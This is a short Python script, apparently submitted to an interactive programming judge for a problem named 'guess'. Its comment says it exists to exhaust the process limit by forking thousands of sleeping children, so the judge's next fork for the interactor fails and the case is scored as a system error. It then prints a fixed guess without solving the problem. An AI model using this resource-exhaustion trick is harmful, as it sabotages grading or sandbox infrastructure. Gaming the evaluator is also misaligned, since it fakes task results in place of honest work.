# why: fill the run's process limit at once, so that whatever the judge forks next for the interactor
#   (or its supervisor) fails and the case reads as the judge's failure (SE)
# problem: guess
import os
import time

children = 0
try:
    while children < 10000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError:
    pass
print("! 1", flush=True)
